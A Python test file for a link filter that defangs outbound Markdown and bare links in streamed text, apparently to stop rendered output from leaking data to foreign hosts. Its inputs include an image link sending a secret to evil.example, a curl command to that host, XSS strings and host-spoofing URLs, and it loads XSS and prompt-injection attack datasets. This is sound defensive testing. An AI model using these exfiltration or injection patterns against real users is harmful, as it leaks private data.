from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from docent.outlinks import LinkFilter

ATTACKS = Path(os.environ.get("DOCENT_DATA", "../shared/data")) / "attacks"
GOOD = "good.example"


def filtered(text: str, size: int = 10_000) -> str:
    """The text as it comes out, fed in pieces of this size."""
    links = LinkFilter(GOOD.__eq__)
    pieces = [links.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join([*pieces, links.finish()])


@pytest.mark.parametrize(
    "text",
    [
        "The deposit is **fifty euros** [1][2], see: page 3.",
        "As follows [1]: fifty euros.",
        "See https://good.example/returns?a=1#top. It says so.",
        "See [our page](https://good.example/a) or (https://GOOD.example:8080).",
        "Ask a@good.example; 5 < 6 & 7 > 6, AT&T; `<b>` and C:\\temp, when, who, if, w, f",
        "Run `curl https://evil.example/x` now.",
        "```sh\ncurl https://evil.example/x\n```\nThen rest.",
        "~~~\n<a href=x>\n~~~",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "- one\n- two\n  - three\n\n1. first",
        "a[0] and f(x)[1] hold",
        "",
    ],
)
@pytest.mark.parametrize("size", [1, 3, 10_000])
def test_what_leads_nowhere_else_is_unchanged(text: str, size: int) -> None:
    assert filtered(text, size) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", "![x] (evil.example/?q=secret)"),
        ("[here](https://evil.example/a)", "[here] (evil.example/a)"),
        ("[here](//evil.example/a)", "[here] (//evil.example/a)"),
        ("[here](/logout)", "[here] (/logout)"),
        ("[here](javascript:alert(1))", "[here] (javascript:alert(1))"),
        ("[here](https://good.example@evil.example)", "[here] (good.example@evil.example)"),
        ("[here](https://good.example.evil.example)", "[here] (good.example.evil.example)"),
        ('[here](https://good.example "a title")', '[here] (https://good.example "a title")'),
        ("Go to https://evil.example/a.", "Go to evil.example/a."),
        ("Go to HTTP://evil.example", "Go to evil.example"),
        ("Go to www.evil.example", "Go to evil.example"),
        ("Go to https://www.evil.example", "Go to evil.example"),
        ("<https://evil.example/>", "< evil.example/>"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("a</b>", "a< /b>"),
        ("[x]: https://evil.example/", "[x] : evil.example/"),
        ("[1]: //evil.example/", "[1] : //evil.example/"),
        ("https&#58;//evil.example", "https&amp;#58;//evil.example"),
        ("https&colon;//evil.example", "https&amp;colon;//evil.example"),
        ("https\\://evil.example", "https\\\\://evil.example"),
        ("\\https://evil.example", "\\evil.example"),
        ("`a ` b ``![](https://evil.example)", "`a ` b ``![] (evil.example)"),
        ("a ` b\n`![](https://evil.example)` c", "a ` b\n`![] (evil.example)` c"),
        ("| ` | ![](https://evil.example) ` |", "| ` | ![] (evil.example) ` |"),
        ("\\`![](https://evil.example)", "\\\\`![] (evil.example)"),
        ("````\n```\n![](https://evil.example)", "````\n```\n![] (evil.example)"),
        ("- ```\n![](https://evil.example)", "- ```\n![] (evil.example)"),
        ("[https://9] [1ftp://]", "[:9] [1:]"),
        ("https://```\n![](https://evil.example)", ":```\n![] (evil.example)"),
        ("```a\n```b\n![](https://evil.example)", "```a\n```b\n![] (evil.example)"),
    ],
)
@pytest.mark.parametrize("size", [1, 3, 10_000])
def test_what_leads_elsewhere_is_text(text: str, shown: str, size: int) -> None:
    assert filtered(text, size) == shown


def test_a_host_is_asked_about_only_where_an_answer_links() -> None:
    asked: list[str] = []
    links = LinkFilter(lambda host: bool(asked.append(host)))
    assert links.feed("Plain text [1]. ") + links.finish() == "Plain text [1]. "
    assert asked == []
    links.feed("[a](https://One.example/x) https://two.example ")
    assert asked == ["one.example", "one.example", "two.example"]


def test_only_what_may_become_a_link_is_held_back() -> None:
    links = LinkFilter(lambda host: False)
    assert links.feed("The deposit is fifty") == "The deposit is fifty"
    assert links.feed(" euros [1]") == " euros [1"
    assert links.feed(".") == "]."


PARTS = st.sampled_from(
    [
        "https://", "HTTP://", "ftp://", "//", "www.", "evil.example", "good.example", "/?q=1", "@", ":", ".",
        "[", "]", "](", ")", "(", "!", "<", ">", "img src=", "a href=", "`", "```", "~~~", "````",
        "- ", "> ", "1. ", "    ", "|", "\\", "&#58;", "&colon;", "&#x2f;", "*", "_", '"', "'", "x", "]: ",
        "\t", "#", "javascript:", "mailto:", "~", "[x]", " ", "\n", "\n\n",
    ]
)  # fmt: skip
TEXTS = st.lists(PARTS, max_size=24).map("".join)
RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
# The widget's rule for bare addresses, which is GFM's but for the scheme-less ones.
BARE = re.compile(r"(?:https?://|www\.[a-z0-9])[^\s<>\"'*`)\]]+", re.IGNORECASE)


def led_to(text: str) -> list[str]:
    """Every address that a renderer makes a link, a picture or a tag of."""
    found: list[str] = []
    for block in RENDERER.parse(text):
        found += [block.content] if block.type == "html_block" else []
        for token in block.children or []:
            found += [str(token.attrs[name]) for name in ("href", "src") if name in token.attrs]
            found += [token.content] if token.type == "html_inline" else []
            found += BARE.findall(token.content) if token.type == "text" else []
    return found


@given(TEXTS, st.integers(1, 9))
def test_no_renderer_makes_a_link_to_elsewhere(text: str, size: int) -> None:
    shown = filtered(text, size)
    # An address whose host holds a bar leads nowhere.
    home = re.compile(r"https?://good\.example(?::\d+)?(?:[/?#.,;:!_~)\]|]|$)", re.IGNORECASE)
    assert [each for each in led_to(shown) if not home.match(each)] == []


@given(TEXTS, st.integers(1, 9))
def test_it_is_the_same_wherever_the_stream_is_cut(text: str, size: int) -> None:
    assert filtered(text, size) == filtered(text)


@pytest.mark.usefixtures("bounded")
@pytest.mark.parametrize("text", ["](", "`", "https://", "w", "&c", "\\", "<", "~~~", "[1"])
def test_takes_the_length_and_not_its_square(text: str) -> None:
    assert len(filtered(text * 20_000, 50)) <= 2 * len(text * 20_000)


@pytest.mark.skipif(not ATTACKS.exists(), reason="needs the attacks of DOCENT_DATA")
def test_nothing_of_the_attack_lists_leads_anywhere() -> None:
    lines = [line for path in ATTACKS.glob("xss/*.txt") for line in path.read_text().splitlines()]
    for kind in ("text", "code"):
        found = json.loads((ATTACKS / f"prompt-injection/bipia_{kind}_attack_train.json").read_text())
        lines += [text for texts in found.values() for text in texts]
    emails = (ATTACKS / "prompt-injection/bipia_email_train.jsonl").read_text().splitlines()
    lines += [json.loads(email)["context"] for email in emails]
    assert len(lines) > 200
    leading = {line: led for line in lines if (led := led_to(filtered(line)))}
    assert leading == {}


def test_a_picture_is_fetched_without_a_click_so_fewer_hosts_may_have_it() -> None:
    def shown(text: str) -> str:
        links = LinkFilter(lambda host: True, lambda host: host == "shop.example")
        return "".join(map(links.feed, text)) + links.finish()

    assert shown("![a](https://shop.example/a.png)") == "![a](https://shop.example/a.png)"
    assert shown("![a](https://wiki.example/a.png)") == "![a] (wiki.example/a.png)"
    assert shown("![a\n[b](https://wiki.example/b) c](https://wiki.example/c)").count("](") == 0
    assert shown("![a]\n\n[b](https://wiki.example/b)") == "![a]\n\n[b](https://wiki.example/b)"
